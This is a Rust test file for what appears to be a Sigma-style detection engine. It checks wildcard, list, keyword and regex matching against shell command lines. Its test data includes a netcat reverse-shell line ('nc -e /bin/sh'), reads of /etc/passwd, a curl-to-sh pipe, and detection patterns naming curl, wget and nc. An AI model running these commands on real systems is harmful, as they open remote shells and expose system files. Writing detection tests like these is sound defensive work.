//! Values: text, wildcards and their escapes, numbers, null, lists, keywords.

use crate::{forward_hits, hits, item_hits};

#[test]
fn a_text_is_the_whole_field_in_any_case() {
    assert!(item_hits("CommandLine: 'Uname -A'", "uname -a"));
    assert!(!item_hits("CommandLine: 'uname'", "uname -a"));
    assert!(!item_hits("CommandLine: ''", "uname -a"));
}

#[test]
fn wildcards_stand_for_any_characters() {
    for (value, line, expected) in [
        ("uname*", "uname -a", true),
        ("*-a", "uname -a", true),
        ("*name*", "uname -a", true),
        ("u*e*a", "uname -a", true),
        ("*", "uname -a", true),
        ("u*z", "uname -a", false),
        ("?name -a", "uname -a", true),
        ("uname -?", "uname -a", true),
        ("uname ???", "uname -a", false),
        ("UNAME*", "uname -a", true),
        // Also across lines, as in a quoted word.
        ("echo*second", "echo 'first\nsecond'", true),
        ("*second", "echo 'first\nsecond'", true),
        ("echo*", "echo 'first\nsecond'", true),
        ("echo first?second", "echo 'first\nsecond'", true),
        ("first*", "echo 'first\nsecond'", false),
    ] {
        assert_eq!(item_hits(&format!("CommandLine: '{value}'"), line), expected, "{value} {line:?}");
    }
}

#[test]
fn a_backslash_takes_the_meaning_of_a_wildcard_and_of_itself() {
    for (value, line, expected) in [
        (r"ls \*.c", "ls '*.c'", true),
        (r"ls \*.c", "ls 'x.c'", false),
        (r"ls \?", "ls '?'", true),
        (r"ls \?", "ls x", false),
        (r"ls a\\*", r"ls 'a\bc'", true),
        (r"ls a\\\*", r"ls 'a\*'", true),
        (r"ls a\\\*", r"ls 'a\b'", false),
        // Before anything else it is a backslash.
        (r"ls a\b", r"ls 'a\b'", true),
    ] {
        assert_eq!(item_hits(&format!("CommandLine: '{value}'"), line), expected, "{value} {line:?}");
    }
}

#[test]
fn wildcards_go_with_the_modifiers_for_text() {
    for (item, line, expected) in [
        ("CommandLine|contains: 'a*c'", "x abbc y", true),
        ("CommandLine|contains: 'a*d'", "x abbc y", false),
        ("CommandLine|startswith: 'cat /e?c'", "cat /etc/passwd", true),
        ("CommandLine|startswith: '/e?c'", "cat /etc/passwd", false),
        ("CommandLine|endswith: 'pass*d'", "cat /etc/passwd", true),
        ("CommandLine|endswith: 'pass*d'", "cat /etc/passwd -n", false),
        ("CommandLine|startswith: 'cat*etc'", "cat /etc/passwd", true),
        ("CommandLine|cased: 'Cat*'", "cat x", false),
        ("CommandLine|cased: 'cat*'", "cat x", true),
        ("CommandLine|contains|all: ['c?t', '/et*wd']", "cat /etc/passwd", true),
        ("CommandLine|contains|all: ['c?t', '/et*wx']", "cat /etc/passwd", false),
        ("CommandLine: ['dog', 'c?t x']", "cat x", true),
        ("CommandLine: ['dog', 'c?t x']", "dog", true),
        ("CommandLine: ['dog', 'c?t x']", "dog x", false),
        ("CommandLine|contains: '(a*'", "echo '(ab'", true),
    ] {
        assert_eq!(item_hits(item, line), expected, "{item} {line:?}");
    }
}

#[test]
fn a_list_is_any_of_its_values_and_a_map_all_of_its_items() {
    let list = "CommandLine|contains:\n  - wget\n  - curl";
    assert!(item_hits(list, "curl x") && item_hits(list, "wget x") && !item_hits(list, "nc x"));
    let map = "Image|endswith: '/curl'\nCommandLine|contains: ' -o '";
    assert!(item_hits(map, "curl -o x y") && !item_hits(map, "curl y") && !item_hits(map, "wget -o x"));
}

#[test]
fn a_list_of_maps_is_any_of_them() {
    let detection = "selection:\n  - Image|endswith: '/curl'\n    CommandLine|contains: ' -o '\n  - \
                     Image|endswith: '/wget'\ncondition: selection";
    assert!(hits(detection, "curl -o x y") && hits(detection, "wget y"));
    assert!(!hits(detection, "curl y"));
}

#[test]
fn null_is_a_field_that_is_not_there() {
    assert!(item_hits("OriginalFileName: null", "uname"));
    assert!(!item_hits("CommandLine: null", "uname"));
    assert!(item_hits("Image|endswith: '/echo'\nPipedFrom: null", "echo x | cat -"));
    assert!(!item_hits("Image|endswith: '/cat'\nPipedFrom: null", "echo x | cat -"));
}

#[test]
fn numbers_compare_as_numbers_and_as_texts() {
    assert!(
        forward_hits("dst_port: 25", "192.0.2.1", 25) && !forward_hits("dst_port: 25", "192.0.2.1", 2525)
    );
    assert!(forward_hits("dst_port: '25'", "192.0.2.1", 25));
    assert!(forward_hits("dst_port: [25, 587]", "192.0.2.1", 587));
    assert!(forward_hits("dst_port|startswith: 58", "192.0.2.1", 587));
    assert!(item_hits("CommandLine|contains: 4444", "nc 192.0.2.1 4444"));
    assert!(item_hits("CommandLine|contains: ['9001', 4444]", "nc 192.0.2.1 4444"));
}

#[test]
fn keywords_stand_anywhere() {
    let keywords =
        |keywords: &str, line: &str| hits(&format!("keywords:\n{keywords}\ncondition: keywords"), line);
    assert!(keywords("  - 'nc -e'\n  - 'ncat'", "nc -e /bin/sh 192.0.2.1 1"));
    assert!(keywords("  - 'NC -E'", "nc -e /bin/sh 192.0.2.1 1"));
    assert!(!keywords("  - 'socat'", "nc -e /bin/sh 192.0.2.1 1"));
    assert!(keywords("  - 'nc*192'", "nc -e /bin/sh 192.0.2.1 1"));
    assert!(keywords("  - 'b?n'", "nc -e /bin/sh 192.0.2.1 1"));
    assert!(!keywords("  - 'b??n'", "nc -e /bin/sh 192.0.2.1 1"));
    assert!(keywords("  '|all':\n    - 'nc '\n    - '/bin/sh'", "nc -e /bin/sh 192.0.2.1 1"));
    assert!(!keywords("  '|all':\n    - 'nc '\n    - '/bin/ksh'", "nc -e /bin/sh 192.0.2.1 1"));
    assert!(keywords("  '|re':\n    - 'b.n/s'", "nc -e /bin/sh 192.0.2.1 1"));
    let one = "keywords: 'nc -e'\ncondition: keywords";
    assert!(hits(one, "nc -e /bin/sh") && !hits(one, "nc /bin/sh"));
}

#[test]
fn a_field_with_several_values_matches_with_one_of_them() {
    assert!(item_hits("RedirectTarget: /tmp/b", "echo x > /tmp/a 2> /tmp/b"));
    assert!(item_hits("PipedFrom|endswith: '/curl'", "curl x | tac | sh"));
    assert!(!item_hits("Image|endswith: '/sh'\nPipedFrom|endswith: '/wget'", "curl x | tac | sh"));
}

/// Where and as whom a command runs is worked out of the line.
#[test]
fn directory_and_user_are_fields() {
    assert!(item_hits("CurrentDirectory|startswith: /dev/shm", "cd /dev/shm; ./x"));
    assert!(!item_hits("CurrentDirectory|startswith: /dev/shm", "cd /tmp; ./x"));
    assert!(item_hits("User: backup", "sudo -u backup id"));
    assert!(!item_hits("User: backup", "id"));
    // Of many commands too, where the same one is looked at once.
    let many = "id; ".repeat(9);
    assert!(item_hits("CurrentDirectory: /dev/shm", &format!("{many} cd /dev/shm; id")));
}

/// The long s is an `s` to a pattern that ignores case, and to no literal.
#[test]
fn a_long_s_is_an_s_to_patterns_only() {
    assert!(item_hits("Image|re: '(?i)/ssh$'", "/bin/ſsh"));
    assert!(item_hits("CommandLine|re|i: 'passwd'", "paſswd"));
    assert!(!item_hits("CommandLine|contains: passwd", "paſswd"));
}
